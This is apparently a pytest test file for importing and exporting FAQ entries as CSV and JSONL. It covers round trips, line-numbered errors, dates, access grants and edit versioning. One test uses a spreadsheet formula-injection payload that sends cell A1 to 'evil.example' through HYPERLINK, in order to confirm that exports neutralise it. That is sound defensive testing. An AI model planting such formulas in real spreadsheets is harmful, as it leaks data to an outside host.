"""Files of entries: written out and loaded again they change nothing, edited they change what was edited."""

from __future__ import annotations

import csv

import pytest

from bot.entries import read_entry
from engine.errors import LoadFailed, NotFound
from engine.knowledge import Entry, Wording
from engine.knowledge.entries import Row
from engine.knowledge.entry_file import Wrong, as_fields, as_table, read_entries
from engine.types import Audience
from tests.loads.conftest import Base

LUNCH = Entry("When is lunch?", "At noon,\nin the yard.", ("lunch time", "a|b"), "Ann", 4e9 - 4e9 % 86400,
              Wording("几点吃午饭？", "十二点。", ("午饭时间",)))  # fmt: skip
KIOSK = Entry("Where is the kiosk?", 'On "floor" 1.', owner="Bob")


async def stored(base: Base, rows: list[Row] | None, grant: str = "workspace") -> list[str]:
    """What became of each."""
    assert rows is not None
    loading = base.knowledge.entries.load(rows, workspace="acme", grant=grant, actor="a")
    return [why or "kept" async for _, _, why in loading]


@pytest.mark.parametrize("form", ["faq.jsonl", "faq.csv"])
async def test_what_is_written_out_is_loaded_again_unchanged_or_as_it_was_edited(base: Base, form: str) -> None:
    import orjson

    for entry, grant in ((LUNCH, "public"), (KIOSK, "room:C1")):
        await base.knowledge.put_entry(entry, workspace="acme", grant=grant, actor="a")
    before = await base.knowledge.entries.of("acme")
    out = [as_fields(kept) for kept in before]
    lines = [orjson.dumps(row).decode() for row in out] if form.endswith("jsonl") else list(as_table(out))
    text = "\n".join(lines) + "\n"
    if form.endswith("csv"):
        text = text.replace("a|b", "a b")  # the mark between two ways to ask stands in no cell
        await stored(base, read_entries(text.encode(), form))
        before = await base.knowledge.entries.of("acme")

    assert await stored(base, read_entries(text.encode(), form)) == ["unchanged", "unchanged"]
    assert await base.knowledge.entries.of("acme") == before
    edited = text.replace("Where is the kiosk?", "Where is the shop?")
    assert sorted(await stored(base, read_entries(edited.encode(), form))) == ["kept", "unchanged"]
    after = {kept.id: kept for kept in await base.knowledge.entries.of("acme")}
    assert {kept.id for kept in before} == set(after)
    assert {kept.entry.question for kept in after.values()} == {"When is lunch?", "Where is the shop?"}
    assert "floor" not in await base.texts("Where is the shop?")  # it is still for one room
    assert "floor" in await base.texts("Where is the shop?", "room:C1")


@pytest.mark.parametrize("begins", [*"=+-@", "＝", "＋", "'=", "''-", "'", '"='])
async def test_no_cell_of_a_table_is_a_formula_and_each_is_read_again_as_it_was(base: Base, begins: str) -> None:
    said = f'{begins}HYPERLINK("https://evil.example?x="&A1,"click")'
    for entry in (Entry(f"{said} ?", said, (f"{said} a", f"{said} b"), said, 0.0, Wording(f"{said} 2", said)), KIOSK):
        await base.knowledge.put_entry(entry, workspace="acme", grant="workspace", actor="a")
    before = await base.knowledge.entries.of("acme")
    lines = list(as_table(map(as_fields, before)))
    cells = [cell for row in csv.reader(lines) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "＋"))]
    read = read_entries("\n".join(lines).encode(), "faq.csv")
    assert read is not None
    assert {row.entry for row in read} == {kept.entry for kept in before}
    assert await stored(base, read) == ["unchanged", "unchanged"]


@pytest.mark.parametrize(
    ("name", "text", "problem"),
    [
        ("a.csv", "question,answer,owner\nq,,o\n", "line 2: there is no answer"),
        ("a.csv", 'question,answer,owner\n"q\nr",a,o\n,a,o\n', "line 4: there is no question"),
        ("a.csv", "question,answer,owner\nq,a,b,o\n", "line 2: it has 4 cells, the first line 3"),
        ("a.csv", "question,answer,expirse,owner\nq,a,,o\n", "line 1: there is no field expirse, but expires"),
        ("a.csv", "question,answer,expires\nq,a,31.12.2027\n", "line 2: 31.12.2027 is no day"),
        ("a.csv", "question,answer,audience\nq,a,everybody\n", "line 2: there is no audience everybody"),
        ("a.csv", "question,answer,question_2\nq,a,r\n", "line 2: its second language needs both"),
        ("a.csv", "question,answer,owner\nq,a,o\nQ,b,o\n", "line 3: line 2 asks the same"),
        ("a.csv", f"question,answer,owner\nq,{'x' * 20_001},o\n", "line 2: a question has 1000 characters at most"),
        ("a.jsonl", '{"question": "q", "answer": "a", "owner": "o"}\n{"question"', "line 2: this is no valid JSON"),
        ("a.jsonl", '{"question": "q", "answer": "a", "owner": "o"}\n[1]', "line 2: this is no JSON object"),
        ("a.jsonl", '{"question": "q", "answer": "a", "owner": 7}', "line 1: owner must be a text"),
        ("a.jsonl", '{"question": "q", "answer": "a", "owner": "o", "n": ""}', "line 1: there is no field n"),
    ],
)
def test_what_is_wrong_is_told_with_its_line(name: str, text: str, problem: str) -> None:
    with pytest.raises(Wrong) as wrong:
        read_entries(text.encode(), name)
    assert wrong.value.problems[0].startswith(problem)


@pytest.mark.parametrize("text", ["question,answer\nq,a\n", "id,city\n1,Bern\n", "id,question,answer\n1,q,a\n", ""])
def test_other_tables_are_documents(text: str) -> None:
    assert read_entries(text.encode(), "a.csv") is None


@pytest.mark.parametrize("day", ["2099-12-31", "2099/12/31", "2099年12月31日", "2099.12.31"])
def test_a_day_in_a_file_is_read_as_in_chat(day: str) -> None:
    [row] = read_entries(f"question,answer,expires\nq,a,{day}\n".encode(), "a.csv") or []
    assert row.entry.expires == read_entry(f"Q: q\nA: a\nExpires: {day}").expires > 0


async def test_a_day_that_is_over_is_refused_in_a_file_unless_the_entry_had_it_already(base: Base) -> None:
    text = "question,answer,expires\nWhen is lunch?,At noon.,2024-12-31\n"
    [why] = await stored(base, read_entries(text.encode(), "a.csv"))
    assert "2024-12-31 is over already" in why
    assert await base.knowledge.entries.of("acme") == []
    over = Entry("When is lunch?", "At one.", expires=1_735_689_600.0)
    await base.knowledge.put_entry(over, workspace="acme", grant="workspace", actor="a")
    assert await stored(base, read_entries(text.encode(), "a.csv")) == ["kept"]


async def test_what_somebody_may_not_be_told_is_neither_replaced_nor_in_the_way(base: Base) -> None:
    secret = await base.knowledge.put_entry(LUNCH, workspace="acme", grant="room:BOARD", actor="a")
    entries, reader = base.knowledge.entries, Audience.of("acme", "workspace")
    mine = await entries.put(Entry("When is lunch?", "At one."), workspace="acme", grant="workspace", actor="b",
                             reader=reader)  # fmt: skip
    assert (mine.version, mine.id != secret.id) == (1, True)
    again = await entries.put(Entry("When is lunch?", "At two."), workspace="acme", grant="workspace", actor="b",
                              reader=reader)  # fmt: skip
    assert (again.id, again.version) == (mine.id, 2)
    rows = read_entries(b"question,answer,owner\nWhen is lunch?,At three.,Bob\n", "a.csv") or []
    assert [
        w async for _, _, w in entries.load(rows, workspace="acme", grant="workspace", actor="b", reader=reader)
    ] == [""]
    with pytest.raises(NotFound):
        await entries.put(KIOSK, workspace="acme", grant="workspace", actor="b", which=secret.id, reader=reader)
    kept = {one.grant: one.entry.answer for one in await entries.of("acme")}
    assert kept == {"room:BOARD": LUNCH.answer, "workspace": "At three."}
    found = await entries.find("acme", "When is lunch?", reader)
    assert found
    assert found.id == mine.id
    assert await entries.find("acme", "午饭时间", reader) is None
    # Who may be told it replaces it.
    board = Audience.of("acme", "workspace", "room:BOARD")
    other = await entries.put(
        Entry("几点吃午饭？", "一点。"), workspace="acme", grant="room:BOARD", actor="c", reader=board
    )
    assert (other.id, other.version) == (secret.id, 2)


async def test_an_entry_that_is_edited_keeps_its_identity_and_takes_no_other_ones_question(base: Base) -> None:
    first = await base.knowledge.put_entry(LUNCH, workspace="acme", grant="workspace", actor="a")
    await base.knowledge.put_entry(KIOSK, workspace="acme", grant="workspace", actor="a")
    entries = base.knowledge.entries

    async def edit(entry: Entry, which: str = first.id, version: int = 0) -> int:
        kept = await entries.put(entry, workspace="acme", grant="workspace", actor="a", which=which, version=version)
        return kept.version

    assert await edit(Entry("When is dinner?", "At six."), version=1) == 2
    assert await edit(Entry("When is dinner?", "At six.")) == 2  # nothing is new
    with pytest.raises(LoadFailed, match="changed this entry meanwhile"):
        await edit(Entry("When is dinner?", "At seven."), version=1)
    with pytest.raises(LoadFailed, match="another entry asks the same"):
        await edit(Entry("where is the  KIOSK?", "Nowhere."))
    with pytest.raises(NotFound):
        await edit(LUNCH, which="gone")
    again = await base.knowledge.put_entry(LUNCH, workspace="acme", grant="workspace", actor="a")
    assert again.id != first.id
    assert len(await entries.of("acme")) == 3
    found = await entries.find("acme", "几点吃午饭？")
    assert found is not None and found.id == again.id
    assert await entries.find("beta", "几点吃午饭？") is None
